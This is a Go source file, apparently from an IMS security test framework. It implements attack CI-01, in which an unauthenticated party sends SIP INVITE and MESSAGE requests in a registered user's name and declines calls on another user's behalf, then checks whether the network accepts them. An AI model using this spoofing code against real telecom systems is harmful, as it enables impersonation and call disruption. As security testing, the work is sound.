package attack

import (
	"context"
	"errors"
	"fmt"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// portUnprotected: somebody who has proven nothing calls in the name of a registered user.
func portUnprotected() Attack {
	controls := []secure.ControlID{secure.CIAuthorizationProtectedPort, secure.CIAuthenticationSAIdentity}
	return Attack{
		ID: "ci.port.unprotected", Number: "CI-01", Title: "a call, a message, an answer in a registered user's name, from a path that proves nothing",
		Text:     "whoever reaches the edge could call as anybody and answer for anybody, without a subscription",
		Services: []Service{Authentication}, Stride: Spoofing, Threats: []Threat{Removal}, Module: ServicesControl,
		Source: "TS 33.203 7.1", Access: both(),
		Bounds: Bounds{Packets: 40, Bytes: 30_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "call", Position: OffPath, Run: callAsStranger, Controls: controls},
			{Name: "call-tcp", Position: OffPath, Access: []Access{IPsec}, Run: callAsStrangerByTCP, Controls: controls},
			{Name: "message", Position: OffPath, Run: writeAsStranger, Controls: controls},
			{Name: "response", Position: OffPath, Access: []Access{IPsec}, Run: answerAsStranger, Controls: controls},
		},
	}
}

func callAsStranger(ctx context.Context, f *Field, o *Outcome) error {
	stranger, err := f.Stranger(ctx)
	if err != nil {
		return err
	}
	return f.callsAsAlice(ctx, o, stranger)
}

// callAsStrangerByTCP does so over a connection to the unprotected port (TS 33.203 7.1).
func callAsStrangerByTCP(ctx context.Context, f *Field, o *Outcome) error {
	conn, err := f.attacker.Dial(ctx, "tcp", Elsewhere(0), f.Gm)
	if err != nil {
		return fmt.Errorf("attack: %w", err)
	}
	stranger := makeHand(f, conn, "TCP")
	stranger.hostile = true
	f.hands = append(f.hands, stranger)
	go stranger.read()
	return f.callsAsAlice(ctx, o, stranger)
}

// callsAsAlice calls bob in alice's name, twenty times.
func (f *Field) callsAsAlice(ctx context.Context, o *Outcome, stranger *Hand) error {
	const times = 20
	wait := soon
	victim := f.Users[Alice].IMPU
	for i := range times {
		invite := Request{Method: "INVITE", URI: f.Bob.IMPU, From: victim, CallID: f.token(),
			Lines: []string{"Contact: " + stranger.Contact(), "P-Preferred-Identity: <" + victim + ">"}}
		if err := stranger.Write(stranger.Text(invite)); err != nil {
			return err
		}
		var answer *sip.Message
		err := within(ctx, wait, func(ctx context.Context) (err error) {
			answer, err = stranger.Await(ctx, func(m *sip.Message) bool {
				return !m.IsRequest() && string(m.Get(sip.HdrCallID)) == invite.CallID && m.Status() >= 101
			})
			return err
		})
		if rings := f.Bob.RungBy(victim); rings != nil {
			rings.Reject(603)
			o.Arrived("bob's client rings")
			o.Users = 1
			o.Peer(true, "bob is called by alice, who does not call, after %d INVITEs", i+1)
			return nil
		}
		switch {
		case errors.Is(err, ErrSilence) && ctx.Err() == nil:
			wait = soon / 10 // what has no answer once has none
			continue         // an unprotected port beside protected ones answers nothing
		case err != nil:
			return err
		}
		o.Arrived("%d INVITEs, the last answered %d", i+1, answer.Status())
	}
	text := f.token()
	if err := f.Alice.Reaches(ctx, f.Bob, text); err != nil { // behind the attack: what was to come has come
		return err
	}
	rings := f.Bob.RungBy(victim) != nil
	o.Peer(rings, "bob is not called")
	o.Wire(false, "%d INVITEs, none of them accepted", times)
	return nil
}

// writeAsStranger sends messages in alice's name to bob.
func writeAsStranger(ctx context.Context, f *Field, o *Outcome) error {
	stranger, err := f.Stranger(ctx)
	if err != nil {
		return err
	}
	const times = 10
	victim, text := f.Users[Alice].IMPU, f.token()
	taken := 0
	for i := range times {
		status, err := stranger.answered(ctx, stranger.Text(Request{Method: "MESSAGE", URI: f.Bob.IMPU, From: victim, Body: text,
			Lines: []string{"P-Preferred-Identity: <" + victim + ">", "Content-Type: text/plain"}}))
		if err != nil {
			return err
		}
		if status == 200 {
			taken++
		}
		if status != 0 { // an unprotected port beside protected ones answers nothing
			o.Arrived("%d messages, the last answered %d", i+1, status)
		}
	}
	heard, err := f.behindAlice(ctx, text)
	if err != nil {
		return err
	}
	o.Users = min(len(heard), 1)
	o.Peer(len(heard) > 0, "bob reads %d messages that nobody has signed for", len(heard))
	o.Wire(taken > 0, "%d of %d messages of somebody who is not registered are taken", taken, times)
	return nil
}

// answerAsStranger declines a call to carol in her place, from another address than hers. He has seen what was sent to her, and may write all of it.
func answerAsStranger(ctx context.Context, f *Field, o *Outcome) error {
	stranger, err := f.StrangerAt(ctx, Elsewhere(0))
	if err != nil {
		return err
	}
	return f.answersForCarol(ctx, o, stranger, func() (*sip.Message, error) {
		return stranger.RegisterAs(ctx, Registering{IMPI: f.Users[Mallory].IMPI, IMPU: f.Users[Mallory].IMPU, Expires: 600})
	})
}

// answersForCarol has alice call carol, and impostor decline before carol's telephone rings. behind is a request of his that has an answer: what he wrote before it has
// arrived by then.
func (f *Field) answersForCarol(ctx context.Context, o *Outcome, impostor *Hand, behind func() (*sip.Message, error)) error {
	carol, err := f.Carol(ctx)
	if err != nil {
		return err
	}
	carol.answers.Store(false)
	out, err := f.Alice.UE.Call(ctx, carol.IMPU, ue.Voice{})
	if err != nil {
		return err
	}
	defer out.Hangup()
	invite, err := carol.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && m.Method() == sip.INVITE })
	if err != nil {
		return err
	}
	const times = 20
	for range times {
		if err := impostor.Answer(invite, 603); err != nil {
			return err
		}
	}
	answer, err := behind()
	if err != nil {
		return err
	}
	o.Arrived("%d answers, and a %s behind them that is answered %d", times, answer.CSeqMethod(), answer.Status())
	if err := carol.Answer(invite, 180); err != nil {
		return err
	}
	if _, err = out.Until(ctx, ue.Ringing); err == nil {
		o.Peer(false, "alice hears carol's telephone ring")
		return carol.Answer(invite, 486)
	}
	select {
	case <-out.Done():
		o.Users = 2
		o.Peer(true, "alice is told that carol has declined, whose telephone rings: %v", out.Result().Err)
		return nil
	default:
		return fmt.Errorf("attack: alice's call does not ring: %w", err)
	}
}
